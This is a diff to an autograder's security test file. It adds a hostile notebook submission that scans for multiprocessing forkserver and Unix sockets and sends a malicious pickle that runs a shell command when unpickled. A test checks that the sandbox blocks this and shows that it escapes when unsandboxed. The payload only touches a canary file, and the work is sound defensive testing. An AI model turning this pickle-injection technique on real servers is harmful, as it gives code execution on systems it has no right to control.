@@ -6,6 +6,7 @@ must gain nothing over its control, honest students must keep full marks, nothin
 grader owns may change, no hidden test may reach a feedback page, and a second run of the
 batch must give the same grades."""
 
+import ast
 import csv
 import html
 import json
@@ -13,6 +14,7 @@ import os
 import re
 import socket
 import threading
+import time
 from pathlib import Path
 
 import nbformat
@@ -142,6 +144,46 @@ try:
 except OSError as exc:
     print('no network:', type(exc).__name__)"""
 
+# The grading workers are forked from a server (autograde/run/launch.py) that unpickles whatever a
+# client sends down its socket, outside the sandbox: a submission that reached that socket would run
+# code as the grader. This one looks for it (multiprocessing's listener files, every Unix socket the
+# kernel lists) and, for each it can connect to, sends what the server's protocol expects, with a
+# pickle that creates CANARY when it is loaded.
+FORKSERVER = r"""
+import glob, os, pickle, socket
+from multiprocessing import reduction
+canary = {CANARY!r}
+class Escape:
+    def __reduce__(self):
+        return (os.system, ('touch ' + canary,))
+paths = {PATHS!r} or glob.glob('/tmp/pymp-*/listener-*') + glob.glob('/tmp/**/listener-*', recursive=True)
+try:
+    for line in open('/proc/net/unix').read().splitlines()[1:]:
+        parts = line.split()
+        if len(parts) >= 8 and not {PATHS!r}:
+            paths.append(parts[7])
+except OSError:
+    pass
+tried = []
+for path in sorted(set(paths)):
+    try:
+        client = socket.socket(socket.AF_UNIX)
+        client.settimeout(3)
+        client.connect('\0' + path[1:] if path.startswith('@') else path)
+    except OSError as exc:
+        tried.append((path, type(exc).__name__))
+        continue
+    child_r, parent_w = os.pipe()
+    parent_r, child_w = os.pipe()
+    alive_r, alive_w = os.pipe()
+    # as multiprocessing's own client: the child's two pipe ends, then the fds it expects to inherit
+    reduction.sendfds(client, [child_r, child_w, alive_r, alive_w])
+    os.write(parent_w, pickle.dumps(Escape()) * 2)  # the child unpickles its orders from the pipe
+    client.close()
+    tried.append((path, 'CONNECTED'))
+print('FORKSERVER-PROBE', repr(tried))
+"""
+
 
 def grades(out: Path) -> dict[str, dict[str, float]]:
     with open(out / "grades.csv", encoding="utf-8") as handle:
@@ -224,6 +266,9 @@ def attacked(tmp_path_factory):
     write(subs, "atk_memory", NB["04"], build(NB["04"]))
     write(subs, "atk_forks", NB["01"], insert_after(build(NB["01"]), "todo0_solution", FORKS))
     write(subs, "atk_network", NB["03"], insert_after(build(NB["03"]), "todo3_solution", NETWORK.replace("{PORT}", str(listener.port))))
+    canary = base / "forkserver-escape"
+    escape = FORKSERVER.replace("{CANARY!r}", repr(str(canary))).replace("{PATHS!r}", "[]")
+    write(subs, "atk_forkserver", NB["01"], insert_after(build(NB["01"]), "todo0_solution", escape))
     # a CPU hog (12 busy processes in new sessions): others must not lose time to it
     write(subs, "atk_hog", NB["02"], insert_after(build(NB["02"]), "todo2_solution", HOG))
     # hostile markup and a quadratic-regex bait in a markdown cell
@@ -254,6 +299,7 @@ def attacked(tmp_path_factory):
         "stdout": first.stdout + second.stdout,
         "summary": json.loads((out / "summary.json").read_text()),
         "listener": listener,
+        "canary": canary,
         "sources_before": before,
         "repo": repo,
     }
@@ -387,6 +433,39 @@ def test_no_network(attacked):
     text = page(attacked["out"], "atk_network", NB["03"])
     assert "no network" in text and "NET-OPEN" not in text
     assert attacked["grades"]["atk_network"]["todo3_validate_state"] == 3
+
+
+def test_the_worker_server_is_out_of_a_submissions_reach(attacked, tmp_path):
+    """The forkserver's socket is invisible from the sandbox (its own /tmp, its own network
+    namespace), so the escape finds nothing to connect to; the control shows the same code does
+    escape from an unsandboxed process that can see a live server's socket."""
+    import multiprocessing.forkserver
+    import subprocess
+    import sys
+
+    text = page(attacked["out"], "atk_forkserver", NB["01"])
+    printed = re.search(r"^FORKSERVER-PROBE (\[.*\])$", text, re.M)
+    assert printed, "the probe printed what it tried"
+    tried = ast.literal_eval(printed.group(1))
+    # all it can reach are its own kernel's channels, in its own runtime folder; no server's listener
+    assert not [path for path, _ in tried if "pymp-" in path or "listener-" in path], tried
+    assert all(re.fullmatch(r"/dev/shm/cg-[^/]+/\d+/ipc-\d+", path) for path, how in tried if how == "CONNECTED"), tried
+    assert not attacked["canary"].exists(), "a submission ran code in the grader's worker server"
+    assert attacked["grades"]["atk_forkserver"]["todo0_check_overlap"] == 3
+    # control: the same code, outside any sandbox, against a server of this process's own
+    from autograde.run import launch
+
+    launch._context()
+    multiprocessing.forkserver.ensure_running()
+    address = multiprocessing.forkserver._forkserver._forkserver_address
+    canary = tmp_path / "escaped"
+    code = FORKSERVER.replace("{CANARY!r}", repr(str(canary))).replace("{PATHS!r}", repr([address]))
+    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
+    assert f"('{address}', 'CONNECTED')" in proc.stdout, proc.stdout + proc.stderr
+    deadline = time.monotonic() + 30
+    while not canary.exists() and time.monotonic() < deadline:
+        time.sleep(0.1)
+    assert canary.exists(), "the control did not escape: the attack would prove nothing"
 
 
 def test_summary_records_the_sandbox(attacked):
